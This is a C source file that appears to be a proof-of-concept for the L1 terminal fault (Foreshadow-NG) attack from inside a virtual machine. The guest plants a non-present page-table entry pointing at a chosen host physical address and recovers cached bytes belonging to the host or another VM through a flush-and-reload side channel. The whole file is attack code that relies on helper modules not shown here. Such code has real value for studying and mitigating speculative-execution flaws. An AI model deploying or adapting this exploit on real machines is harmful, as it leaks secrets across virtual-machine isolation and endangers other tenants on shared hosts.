/*
 * L1 terminal fault from a virtual machine ("Foreshadow-NG": Weisse et al., 2018, L1TF-VMM): the
 * guest's kernel makes an entry in its own page tables that is not present, with any physical address
 * it likes. A load by it faults inside; until then the processor takes the address for one of the
 * host's memory, past the extended page tables, and if that line is in the first-level cache, its
 * bytes are used.
 *
 * The secret is used by another virtual machine on this processor, just before this one is entered,
 * or by the host's kernel whenever this one exits.
 */
#include "attack.h"

#include "channel.h"
#include "faulting.h"
#include "machine.h"
#include "secret.h"

/* Inside, where the entry is. */
static uint8_t *const window = (uint8_t *)(1ULL << 40);

static struct machine machine;
static const uint8_t *probe;

/* Of a sample: where in the page the byte is, and what was seen. */
static int place, shown;

static void sample_inside(void)
{
	flush_probe(probe);
	flush_delays();
	exit_to_host();
	send_faulting(window + place, probe);
	shown = reload_probe(probe);
}

static int sample(int index)
{
	if (options.service)
		use_secret(index);
	*IN_MACHINE(&machine, place) = options.physical % MACHINE_PAGE + index;
	machine_run(&machine, sample_inside);
	return *IN_MACHINE(&machine, shown);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.physical)
		errx(2, "expected --physical");
	if (options.service)
		open_secret();
	calibrate();
	probe = own_probe();
	machine_create(&machine);
	*machine_entry(&machine, (uintptr_t)window) = options.physical & entry_frame;
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	return 0;
}
